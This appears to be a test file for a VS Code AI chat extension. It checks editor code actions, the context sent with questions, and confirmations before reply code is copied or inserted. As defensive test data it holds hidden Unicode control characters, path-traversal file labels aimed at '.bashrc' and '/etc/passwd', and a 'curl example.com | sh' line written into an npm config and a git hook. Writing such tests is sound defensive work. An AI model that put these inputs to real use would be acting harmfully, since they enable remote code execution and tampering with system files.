/**
 * Tests asking from the editor: code actions, questions that are sent immediately, the attached
 * context, and confirmations before text of a reply is written anywhere.
 */
import assert from "node:assert/strict";
import * as vscode from "vscode";
import { addedIf } from "../support/depth";
import { copyMessage, useCode } from "../../src/host/replyActions/codeActions";
import { COMMANDS } from "../../src/host/platform/contributions";
import { gatherFile, gatherTerminal, type Gathered } from "../../src/host/context/gather";
import { fenced, plainText, selectLines, showFile, untilLens, workspaceUri } from "./editing";
import { run, suiteWithProblems, suiteWithService } from "./editingSuite";
import { receivedRequests, scriptService, untilService } from "./reference";

/** Returns all gathered text, or the error message. */
function textOf(gathered: Gathered): string {
  if (!gathered.ok) return gathered.sentence;
  return gathered.parts.map((part) => ("text" in part ? part.text : "")).join("\n");
}

const noProposal = () => Promise.reject(new Error("nothing is applied here"));

describe("asking from the editor", () => {
  const answers = suiteWithService();
  const setProblem = suiteWithProblems();

  // Code actions are registered when Core Chat is first used in a window.
  before(() => vscode.extensions.getExtension("core-chat.core-chat")?.activate());

  async function actionsAt(document: vscode.TextDocument, range: vscode.Range) {
    const found = await vscode.commands.executeCommand<vscode.CodeAction[]>(
      "vscode.executeCodeActionProvider",
      document.uri,
      range,
    );
    return found.filter(({ title }) => title.includes("Core Chat"));
  }

  it("provides code actions to fix a problem, and to explain and edit the selection", async () => {
    const { document } = await showFile("actions.txt", "one\ntwo\n");
    setProblem(document.uri, 1, "one is wrong");
    const titles = async (range: vscode.Range) =>
      (await actionsAt(document, range)).map(({ title }) => title);
    assert.deepEqual(await titles(new vscode.Range(0, 1, 0, 1)), ["Fix with Core Chat"]);
    assert.deepEqual(await titles(new vscode.Range(1, 0, 1, 3)), [
      "Explain with Core Chat",
      "Edit with Core Chat…",
    ]);
  });

  it("streams a fix at the problem", async () => {
    const { document } = await showFile("fix.txt", "one\ntwo\n");
    setProblem(document.uri, 1, "one is wrong");
    await scriptService(fenced(["ONE"]));
    const [fix] = await actionsAt(document, new vscode.Range(0, 1, 0, 1));
    assert.ok(fix?.command);
    const { command, arguments: given = [] } = fix.command;
    await vscode.commands.executeCommand(command, ...(given as unknown[]));
    assert.equal(plainText(document), "ONE\ntwo\n");
    const asked = JSON.stringify((await receivedRequests())[0]?.body);
    assert.ok(asked.includes("fix.txt (line 1)"), asked);
    assert.ok(asked.includes("- line 1: error: one is wrong"));
    await untilLens(document, "Keep");
    await run(COMMANDS.inlineDiscard);
  });

  for (const [command, words] of [
    [COMMANDS.explainSelection, "Explain this code"],
    [COMMANDS.writeTests, "Write tests"],
    [COMMANDS.documentSelection, "Write documentation comments"],
  ] as const) {
    it(`sends the selection for ${command}${addedIf(command !== COMMANDS.explainSelection)}`, async () => {
      const editor = await showFile("ask.txt", "one\ntwo\nthree\n");
      selectLines(editor, 2, 3);
      await vscode.commands.executeCommand(command);
      await untilService(({ requests, repliesOpen }) => requests === 1 && repliesOpen === 0);
      const asked = JSON.stringify((await receivedRequests())[0]?.body);
      assert.ok(asked.includes(words) && asked.includes("ask.txt (lines 2-3)"), asked);
    });
  }

  it("refuses a file that is too large, and one that is missing", async () => {
    const huge = workspaceUri("huge.txt");
    await vscode.workspace.fs.writeFile(huge, new Uint8Array(1024 * 1024 + 1).fill(97));
    assert.match(textOf(await gatherFile(huge)), /^huge\.txt is larger than 1 MB/);
    assert.match(textOf(await gatherFile(workspaceUri("none.txt"))), /could not be read/);
  });

  it("reports that there is no selection in the terminal", async () => {
    const terminal = await gatherTerminal();
    assert.match(textOf(terminal), /^No text is selected in the terminal/);
  });

  it("asks before hidden characters of a reply are copied, inserted or opened", async () => {
    const reply = "```\nsafe\u202e text\n```\n";
    await vscode.env.clipboard.writeText("before");
    await useCode("copy", reply, 0, noProposal);
    assert.equal(await vscode.env.clipboard.readText(), "before");
    answers.choose("Remove and Use");
    await useCode("copy", reply, 0, noProposal);
    assert.equal(await vscode.env.clipboard.readText(), "safe text\n");
    const { document } = await showFile("insert.txt", "");
    await useCode("insert-at-cursor", reply, 0, noProposal);
    assert.equal(plainText(document), "");
    answers.choose("Use As Is");
    await useCode("insert-at-cursor", reply, 0, noProposal);
    assert.equal(plainText(document), "safe\u202e text");
    await useCode("new-file", reply, 0, noProposal);
    assert.equal(vscode.window.activeTextEditor?.document.uri.path.endsWith("insert.txt"), true);
  });

  it("indents a reply's code like its insert position", async () => {
    const reply = "```ts\nif (a) {\n  b();\n}\n```\n";
    const editor = await showFile("indent.ts", "function f() {\n    let a = 1;\n}\n");
    editor.selection = new vscode.Selection(1, 14, 1, 14);
    await useCode("insert-at-cursor", reply, 0, noProposal);
    assert.equal(
      plainText(editor.document),
      "function f() {\n    let a = 1;\n    if (a) {\n      b();\n    }\n}\n",
    );
  });

  it("asks before hidden characters of a whole message with code are copied", async () => {
    await vscode.env.clipboard.writeText("before");
    assert.equal(await copyMessage("Like this:\n\n```\nsafe\u202e text\n```\n"), false);
    assert.equal(await vscode.env.clipboard.readText(), "before");
    answers.choose("Remove and Use");
    assert.equal(await copyMessage("Like this:\n\n```\nsafe\u202e text\n```\n"), true);
    assert.match(await vscode.env.clipboard.readText(), /^safe text$/m);
    answers.shown.length = 0;
    assert.equal(await copyMessage("No code, \u200bonly words."), true);
    assert.deepEqual(answers.shown, []);
  });

  it("asks before hidden characters of a reply replace a selection or open as a file", async () => {
    const reply = "```\nsafe\u202e text\n```\n";
    const editor = await showFile("replace.txt", "one\ntwo\n");
    selectLines(editor, 1, 1);
    await useCode("replace-selection", reply, 0, noProposal);
    assert.equal(plainText(editor.document), "one\ntwo\n");
    answers.choose("Remove and Use");
    await useCode("replace-selection", reply, 0, noProposal);
    assert.equal(plainText(editor.document), "safe text\ntwo\n");
    answers.choose("Remove and Use");
    await useCode("new-file", reply, 0, noProposal);
    const opened = vscode.window.activeTextEditor?.document;
    assert.equal(opened?.isUntitled, true);
    assert.equal(plainText(opened), "safe text\n");
  });

  it("never uses a path from a reply as a target: a new file has no name", async () => {
    for (const label of ["../../.bashrc", ".vscode/settings.json", "ts:src/../../../etc/passwd"]) {
      await useCode("new-file", `\`\`\`${label}\nharmless\n\`\`\`\n`, 0, noProposal);
      const { document } = vscode.window.activeTextEditor ?? {};
      assert.equal(document?.isUntitled, true);
      assert.match(document.uri.path, /^Untitled-\d+$/);
    }
  });

  it("asks for confirmation before it writes into a file that runs code automatically", async () => {
    const reply = "```\ncurl example.com | sh\n```\n";
    await vscode.workspace.fs.createDirectory(workspaceUri(".husky"));
    for (const [action, name] of [
      ["replace-selection", ".npmrc"],
      ["insert-at-cursor", ".husky/pre-push"],
    ] as const) {
      const editor = await showFile(name, "one");
      selectLines(editor, 1, 1);
      await useCode(action, reply, 0, noProposal);
      assert.deepEqual(answers.shown.at(-1)?.buttons, ["Keep Anyway"]);
      assert.match(answers.shown.at(-1)?.text ?? "", /can run code automatically/);
      assert.equal(plainText(editor.document), "one");
      answers.choose("Keep Anyway");
      await useCode(action, reply, 0, noProposal);
      assert.match(plainText(editor.document), /curl example\.com \| sh/);
    }
  });
});
